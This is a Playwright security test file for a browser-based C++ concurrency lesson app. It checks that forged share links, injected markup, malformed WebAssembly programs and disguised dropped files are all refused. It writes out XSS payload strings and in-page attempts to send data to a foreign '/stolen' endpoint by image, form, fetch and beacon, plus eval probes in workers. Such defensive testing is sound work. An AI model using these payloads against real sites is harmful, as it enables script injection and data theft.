/** README, “Threats”: what hostile links, programs and pages try, and what comes of it. */
import { deflateSync } from 'fflate';
import { expect, test, type Page } from '@playwright/test';
import { CourseAddress, SiteAddress } from './addresses.js';
import { serveCourse, type Counted } from './hosts.js';
import { ended, openLesson, timelineReady } from './support.js';

const Markup = '"><img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';

/** A link as somebody makes it who knows the format. */
function forged(state: object): string {
  const json = new TextEncoder().encode(JSON.stringify(state));
  let hash = 0x811c9dc5;
  for (const byte of json) hash = Math.imul(hash ^ byte, 0x01000193);
  const deflated = new Uint8Array(deflateSync(json));
  const bytes = new Uint8Array(4 + deflated.length);
  new DataView(bytes.buffer).setUint32(0, hash >>> 0, true);
  bytes.set(deflated, 4);
  return `#1.${Buffer.from(bytes).toString('base64url')}`;
}

/** Requests to anybody else, and dialogs: neither may ever be. */
function watch(page: Page): string[] {
  const seen: string[] = [];
  page.on('request', (request) => { if (!request.url().startsWith(SiteAddress) && !/^(?:data|blob|about):/.test(request.url())) seen.push(request.url()); });
  page.on('dialog', (dialog) => { seen.push(`dialog ${dialog.message()}`); void dialog.dismiss(); });
  return seen;
}
const pwned = (page: Page): Promise<unknown> => page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned);

test('a link’s texts are texts: names, programs and reasons are never markup', async ({ page }) => {
  const seen = watch(page);
  for (const hash of [forged({ name: `x${Markup.slice(0, 58)}`, source: `int main() {} // ${Markup}` }), forged({ lesson: 'mutex', source: Markup }), `#lesson=${encodeURIComponent(Markup)}`, `#1.${encodeURIComponent(Markup)}`]) {
    await page.goto('about:blank');
    await page.goto(`/${hash}`);
    await expect(page.locator('#run')).toBeEnabled();
    await page.locator('#share').click();
    await page.locator('#share-dialog').getByRole('tab', { name: 'Embed' }).click();
    await page.waitForTimeout(200);
    expect(await page.locator('#workspace img, #share-dialog img, .notices img').count()).toBe(0);
    expect(await pwned(page)).toBeUndefined();
  }
  expect(seen).toEqual([]);
});

test('a link’s program does not run, and is not even compiled, before Run is pressed', async ({ page }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.goto(`/${forged({ name: 'x', source: 'int main() { for (;;); }', machine: 'lab', cores: 2, seed: 1, quantum: 1000, hash: 'abc' })}`);
  await expect(page.locator('#status')).toContainText('Ready: Run shows the run of the link');
  await page.waitForTimeout(1000);
  expect(asked.filter((url) => /llvm\.wasm|engine\.wasm/.test(url))).toEqual([]);
  await expect(page.locator('#run')).not.toHaveAttribute('data-running');
});

test('the page’s policy lets no foreign request, no inline script and no eval through', async ({ page }) => {
  const course: Counted = await serveCourse(CourseAddress, new Map([['/stolen', { body: '', headers: { 'Access-Control-Allow-Origin': '*' } }]]));
  try {
    await openLesson(page, 'mutex');
    const tried = await page.evaluate(async (elsewhere) => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = "inline"';
      document.body.append(script);
      const image = new Image();
      image.src = `${elsewhere}stolen?image`;
      const form = document.createElement('form');
      form.action = `${elsewhere}stolen?form`;
      document.body.append(form);
      form.submit();
      const fetched = await fetch(`${elsewhere}stolen`).then(() => 'sent', () => 'refused');
      // In a task of its own: what the debugger evaluates may do more than the page.
      const evaluated = await new Promise((resolve) => setTimeout(() => {
        try {
          resolve(String((0, eval)('1 + 1')));
        } catch {
          resolve('refused');
        }
      }));
      const beacon = navigator.sendBeacon(`${elsewhere}stolen`, 'x') ? 'maybe' : 'refused';
      return { evaluated, fetched, beacon };
    }, CourseAddress);
    expect(tried).toMatchObject({ evaluated: 'refused', fetched: 'refused' });
    await page.waitForTimeout(500);
    expect(course.requests).toEqual([]);
    expect(await pwned(page)).toBeUndefined();
  } finally {
    course.close();
  }
});

test('the workers that programs run in can reach nobody else: they have a policy of their own', async ({ page }) => {
  const course = await serveCourse(CourseAddress, new Map([['/stolen', { body: '', headers: { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' } }]]));
  try {
    await openLesson(page, 'mutex');
    for (const machine of ['lab', 'real']) {
      await page.locator('#machine').selectOption(machine);
      await page.locator('#run').click();
      await ended(page);
    }
    const workers = page.workers();
    expect(workers.length).toBeGreaterThanOrEqual(2);
    for (const worker of workers) {
      const tried = await worker.evaluate(async (elsewhere) => {
        const evaluated = await new Promise((resolve) => setTimeout(() => {
          try {
            resolve(String((0, eval)('1 + 1')));
          } catch {
            resolve('refused');
          }
        }));
        return `${await fetch(`${elsewhere}stolen`).then(() => 'sent', () => 'refused')} ${evaluated}`;
      }, CourseAddress);
      expect(tried).toBe('refused refused');
    }
    expect(course.requests).toEqual([]);
  } finally {
    course.close();
  }
});

test('a program that is no program is refused with words, on both machines, and the page goes on', async ({ page }) => {
  // (module (import "env" "fetch" (func)) (func (export "_start") call 0)): a function that nobody gives.
  const begging = Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 1, 4, 1, 0x60, 0, 0, 2, 13, 1, 3, 0x65, 0x6e, 0x76, 5, 0x66, 0x65, 0x74, 0x63, 0x68, 0, 0, 3, 2, 1, 0, 7, 10, 1, 6, 0x5f, 0x73, 0x74, 0x61, 0x72, 0x74, 0, 1, 10, 6, 1, 4, 0, 0x10, 0, 0x0b]);
  const programs: [string, Buffer][] = [['begging', begging], ['cut', begging.subarray(0, 40)], ['text', Buffer.from('<script>window.pwned=1</script>')], ['empty', Buffer.alloc(0)]];
  for (const [name, bytes] of programs) {
    await test.step(name, async () => {
      await page.unrouteAll();
      await page.route(/\/2-mutex\/program(?:\.debug)?\.wasm$/, (route) => route.fulfill({ body: bytes, contentType: 'application/wasm' }));
      await page.goto('about:blank');
      await page.goto('/#lesson=mutex');
      await timelineReady(page);
      for (const machine of ['lab', 'real']) {
        await page.locator('#machine').selectOption(machine);
        await page.locator('#run').click();
        await expect(page.locator('.outcome')).toBeVisible({ timeout: 30_000 });
        await ended(page);
        await expect(page.locator('.outcome')).toHaveAttribute('data-tone', 'bad');
      }
      expect(await pwned(page)).toBeUndefined();
    });
  }
});

test('a dropped file that lies about itself is refused', async ({ page }) => {
  await openLesson(page, 'mutex');
  for (const [name, content] of [['x.interleave.json', '{"interleave":1,"cores":1e9}'], ['x.interleave.json', `{"interleave":1,"name":"${'a'.repeat(100)}"}`], ['x.exe', 'MZ'], ['x.interleave.json', '[]']] as const) {
    const data = await page.evaluateHandle(([name, content]) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([content ?? ''], name ?? ''));
      return transfer;
    }, [name, content]);
    await page.dispatchEvent('body', 'drop', { dataTransfer: data });
    await expect(page.locator(name.endsWith('.exe') ? '#status' : '.notice[role=alert]')).toContainText(name.endsWith('.exe') ? 'is not a C++ file' : 'cannot be opened');
  }
  await expect(page.locator('#prose h3')).toHaveText('The mutex');
});
